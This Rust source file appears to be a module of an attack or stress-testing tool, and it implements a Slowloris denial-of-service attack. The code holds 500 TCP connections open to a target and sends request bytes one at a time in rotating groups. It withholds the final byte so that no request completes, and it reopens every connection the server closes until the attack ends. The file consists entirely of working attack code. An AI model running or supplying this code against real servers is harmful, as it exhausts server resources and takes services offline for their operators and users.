//! Slowloris: connections that send their request one byte after the other.

use std::io::{ErrorKind, Read, Write};
use std::net::{IpAddr, SocketAddr, TcpStream};

use super::attacker::Attacker;
use crate::Result;
use crate::clock::{MILLISECOND_NS, now_ns, sleep_until};
use crate::dial::begin_to_connect;

/// Connections at once.
const CONNECTIONS: usize = 500;
/// Time between two bytes of a connection.
const BYTE_NS: u64 = 100 * MILLISECOND_NS;
/// The connections take turns in this many groups.
const GROUPS: usize = 10;

/// Trickles `words` into connections from `source` to `address` until the attack is over; returns the number of
/// connections made. Those that the server closed are made again.
pub(super) fn run(
    attacker: &Attacker,
    address: SocketAddr,
    source: Option<IpAddr>,
    words: &[u8],
) -> Result<u64> {
    let begin = || Ok::<_, rustix::io::Errno>((begin_to_connect(address, source, None)?, 0));
    let (mut connections, mut made) = (Vec::<(TcpStream, usize)>::new(), 0);
    while connections.len() < CONNECTIONS {
        connections.push(begin()?);
        made += 1;
    }
    let mut group = 0;
    while !attacker.is_over() {
        group = (group + 1) % GROUPS;
        for connection in connections.iter_mut().skip(group).step_by(GROUPS) {
            let (stream, at) = connection;
            let is_open = match stream.write(&words[*at..=*at]) {
                Ok(written) => {
                    // The last byte is never sent.
                    *at = (*at + written).min(words.len() - 2);
                    !matches!(stream.read(&mut [0; 512]), Ok(0))
                }
                // It is not connected yet.
                Err(error) => error.kind() == ErrorKind::WouldBlock,
            };
            if !is_open {
                *connection = begin()?;
                made += 1;
            }
        }
        attacker.set_under_way();
        sleep_until(now_ns() + BYTE_NS / GROUPS as u64);
    }
    Ok(made)
}
